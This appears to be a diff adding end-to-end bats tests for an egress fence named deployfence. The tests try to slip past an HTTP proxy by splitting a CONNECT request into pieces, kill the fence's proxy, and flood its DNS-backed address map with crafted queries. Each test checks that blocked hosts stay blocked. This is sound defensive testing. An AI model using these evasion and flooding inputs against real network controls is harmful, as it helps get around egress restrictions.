+		python3 /escape.py pieces 203.0.113.5 3128 "GET http://git" "hub.com/ HTTP/1.1\r\nHost: x\r\n\r\n"
+		python3 /escape.py pieces 203.0.113.5 3128 "GET http://ok" ".example/ HTTP/1.1\r\nHost: x\r\n\r\n"'
+	expect_match "$output" 'hello from ok\.example.*second rc=(52|56)'
+	expect_match "$output" $'(ECONNABORTED|ECONNRESET|closed)\npieces (ECONNABORTED|ECONNRESET|closed)\npieces HTTP/1\\.1 200 OK$'
+	run near_packets '676974687562|68756220636f6d|6875622e636f6d' # github, hub.com
+	expect [ "$output" = "" ]
+	sed -i '$d' "$R/matrix"
+	matrix http-proxy-later "reset, no packet with the name" "payload"
+}
+
+@test "an HTTP proxy, and a client that hides from the fence what it asks for: open with default allow, closed by default deny" {
+	begin
+	matrix http-proxy-hidden FAILED -
+	policy_pinned names
+	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
+	local name hide='
+		python3 /escape.py pieces 203.0.113.5 3128 "CON" "NECT github.com:443 HTTP/1.1\r\n\r\n"
+		python3 /escape.py pieces 203.0.113.5 3128 "\r\nGET http://github.com/ HTTP/1.1\r\nHost: x\r\n\r\n"'
+	tried -a deployfence.policy=names -- sh -c "$hide"
+	refute_match "$output" EPERM
+	tried -a deployfence.policy=deny -- sh -c "$hide"
+	expect [ "$output" = $'pieces EPERM\npieces EPERM' ]
+	grep -q 'hostile program can hide' "$E2E/../../README.md"
+	sed -i '$d' "$R/matrix"
+	matrix http-proxy-hidden "open, closed by default deny" "connect, or documented"
+}
+
+# --- what becomes of a fence under load, or without its proxy
+
+@test "the proxy killed: refused stays refused, nothing is resolved, allowed addresses go on" {
+	begin
+	local pid
+	matrix proxy-killed FAILED -
+	policy_pinned names 'block 198.51.100.0/24'
+	start_pinned 140.82.112.3 -a deployfence.policy=names
+	job_exec "$JOB" curl -sS http://ok.example
+	fence_processes | while read -r pid _; do kill -9 "$pid"; done
+	eventually is_fence_gone >/dev/null
+	world_mark
+	job_exec "$JOB" sh -c 'python3 /escape.py at 140.82.112.3 tcp udp-sendto; python3 /escape.py at 198.51.100.9 tcp
+		python3 /escape.py at 203.0.113.10 tcp; dig +tries=1 +time=1 github.com; dig +tries=1 +time=1 ok.example'
+	expect [ "$(grep -c EPERM <<<"$output")" = 3 ]
+	expect_match "$output" $'203.0.113.10\tok'
+	expect_no_packet 140.82.112.3 198.51.100.9
+	expect [ "$(near_packets '#53 ')" = "" ]
+	sed -i '$d' "$R/matrix"
+	matrix proxy-killed "EPERM, no packet" "programs stay"
+}
+
+@test "more addresses than the map holds: none is allowed by that, and none that is refused gets free" {
+	begin
+	matrix map-flood FAILED -
+	printf '%s\n' 'default deny' 'on-leak all warn' 'pin-blocked yes' 'allow flood.example' 'allow ok.example' \
+		'block github.com' | policy deny
+	start_pinned 140.82.112.3 -a deployfence.policy=deny
+	job_exec "$JOB" python3 -c '
+import socket, struct
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sock.settimeout(5)
+for i in range(200):
+    name = bytes([4]) + b"f%03d" % i + b"\5flood\7example\0"
+    opt = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)
+    sock.sendto(struct.pack("!6H", i, 0x100, 1, 0, 0, 1) + name + struct.pack("!2H", 1, 1) + opt, ("10.89.53.1", 53))
+    sock.recv(65535)
+print("flooded")'
+	expect [ "$output" = flooded ]
+	world_mark
+	job_exec "$JOB" sh -c 'python3 /escape.py at 140.82.112.3 tcp udp-sendto; python3 /escape.py at 198.51.100.9 tcp
+		python3 /escape.py at 203.0.113.11 tcp; getent ahostsv4 ok.example >/dev/null; python3 /escape.py at 203.0.113.10 tcp'
+	expect [ "$(grep -c EPERM <<<"$output")" -ge 4 ]
+	expect_match "$output" $'203.0.113.10\t(ok|EPERM)'
+	expect_no_packet 140.82.112.3 198.51.100.9 203.0.113.11
+	sed -i '$d' "$R/matrix"
+	matrix map-flood "EPERM, no packet" "refuses what finds no room"
+}
